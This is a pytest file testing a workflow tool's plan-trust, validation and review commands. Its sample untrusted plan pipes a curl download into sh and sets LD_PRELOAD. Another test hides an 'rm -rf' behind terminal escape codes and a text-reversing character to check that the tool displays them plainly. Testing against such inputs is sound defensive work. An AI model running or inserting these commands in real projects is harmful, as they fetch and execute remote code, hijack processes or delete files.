"""Plans from the command line: trusted, checked, completed by editors, and changed by what runs have taught."""

import json
import os
from collections.abc import Callable
from pathlib import Path
from subprocess import CompletedProcess

import pytest

pytest.importorskip("dbos", reason="`passdown workflow` needs the extra [workflows]")

from passdown.actions import plan_review
from passdown.project import open_project
from passdown.workflows.observed import Observed

Passdown = Callable[..., "CompletedProcess[str]"]
FOREIGN = """\
phases:
  build:
    run: |
      curl -s https://example.com/x |
        sh
    env: {LD_PRELOAD: ./x.so}
    outputs: [out]
  ask:
    needs: [build]
    agent: claude
    prompt: Say hello.
    gate: {run: ./score.sh, minimum: 7}
"""


@pytest.fixture
def plans(repository: Path, passdown: Passdown) -> Path:
    passdown("init")
    folder = repository / ".passdown" / "workflows"
    folder.mkdir()
    return folder


def test_trust_shows_every_command_before_it_asks(plans: Path, passdown: Passdown) -> None:
    """All lines of it, variables and gates too; without a yes nothing changes."""
    (plans / "foreign.yaml").write_text(FOREIGN)
    done = passdown("trust", code=2)

    for words in ("build  env: LD_PRELOAD=./x.so", "run: curl -s https://example.com/x |", "  sh", "agent: claude: Say hello.", "gate: ./score.sh"):
        assert words in done.stdout
    assert "--yes" in done.stderr
    assert json.loads(passdown("trust", "--list", "--json").stdout) == {"trusted": []}


def test_trust_is_given_listed_and_taken_back(plans: Path, passdown: Passdown) -> None:
    """The whole life of it; a plan that cannot run is never trusted."""
    (plans / "foreign.yaml").write_text(FOREIGN)
    (plans / "broken.yaml").write_text("phases: {a: {}}\n")

    given = json.loads(passdown("trust", "--yes", "--json").stdout)["plans"]
    assert {one["name"]: one["trusted"] for one in given} == {"broken": False, "foreign": True}
    assert "workflows/foreign.yaml" in passdown("trust", "--list").stdout
    assert "foreign.yaml" in passdown("trust", "--revoke", "foreign").stderr
    assert passdown("trust", "--list").stdout == ""


def test_terminals_are_not_driven_by_a_plan(plans: Path, passdown: Passdown) -> None:
    """Escapes and turned text in a command are shown as what they are."""
    (plans / "x.yaml").write_text('phases: {a: {run: "rm -rf x \\e[2K\\e[1G# safe \\u202e", outputs: [o]}}\n')

    out = passdown("trust", "--dry-run").stdout
    assert "rm -rf x" in out
    assert not any(sign in out for sign in ("\x1b", "\u202e"))


def test_check_tells_phases_in_order_and_mistakes_by_line(plans: Path, passdown: Passdown) -> None:
    """Exit code 1 for a plan that cannot run; the others are still told."""
    passdown("workflow", "new", "podcast", "--template", "cost")
    (plans / "broken.yaml").write_text("phases:\n  a: {rnu: x}\n")

    done = passdown("workflow", "check", code=1)
    assert ".passdown/workflows/broken.yaml:2:7: error: `rnu` is no key of phase `a`; did you mean `run`?" in done.stdout
    assert [line.split()[:2] for line in done.stdout.splitlines() if line.startswith("  ")] == [["1", "research"], ["2", "production"], ["3", "final"]]
    assert json.loads(passdown("workflow", "check", "podcast", "--json").stdout)["plans"][0]["plan"]["budget"]["money"] == 4


def test_a_plan_that_cannot_run_says_all_its_mistakes(plans: Path, passdown: Passdown) -> None:
    """With the exit code of its class, and as data."""
    (plans / "broken.yaml").write_text("phases:\n  a: {rnu: x}\n  b: {run: x, needs: [c]}\n")

    done = passdown("workflow", "run", "broken", "ep-1", "--json", code=57)
    assert json.loads(done.stdout)["error"]["code"] == "InvalidPlan"
    assert done.stderr.count("broken.yaml:") >= 3


def test_the_schema_is_printed(plans: Path, passdown: Passdown) -> None:
    """As JSON, whole."""
    assert json.loads(passdown("workflow", "schema").stdout)["properties"]["phases"]["minProperties"] == 1


def test_a_review_without_runs_proposes_nothing(plans: Path, passdown: Passdown) -> None:
    """And says from how many runs on it does."""
    passdown("workflow", "new", "podcast")
    done = passdown("workflow", "review", "podcast")

    assert (done.stdout, "after 5 attempts" in done.stderr) == ("", True)


def test_a_review_is_applied_and_the_plan_still_runs(repository: Path, plans: Path, passdown: Passdown) -> None:
    """All other bytes and the file's mode stay; a plan that was trusted still is, one that changed in between is left alone."""
    passdown("workflow", "new", "podcast")
    path = plans / "podcast.yaml"
    path.chmod(0o640)
    before, project = path.read_bytes(), open_project(repository)
    rows = [Observed("research", f"ep-{n}", 4.0, when=f"2026-11-{n + 1:02}") for n in range(8)]
    done = plan_review.review(project, "podcast", rows)
    assert path.read_bytes() == before

    plan_review.apply(project, done)
    assert path.read_bytes() == before.replace(b"budget: {money: $1.50,", b"budget: {money: $5.20,")
    assert path.stat().st_mode & 0o777 == 0o640
    assert json.loads(passdown("workflow", "check", "podcast", "--json").stdout)["plans"][0]["trusted"] is True
    with pytest.raises(Exception, match="changed by someone else"):
        plan_review.apply(project, done)


def test_hooks_and_start_load_nothing_of_productions(repository: Path, passdown: Passdown) -> None:
    """A verb that has nothing to do with them imports neither YAML nor a database of theirs."""
    import subprocess
    import sys

    code = ("import sys; from passdown.cli.main import main; main(['list', '-C', sys.argv[1]]); "
            "sys.exit(any(m in sys.modules for m in ('yaml', 'dbos', 'sqlalchemy', 'passdown.workflows.parse')))")
    passdown("init")
    assert subprocess.run([sys.executable, "-c", code, str(repository)], env={**os.environ}, check=False, timeout=120).returncode == 0
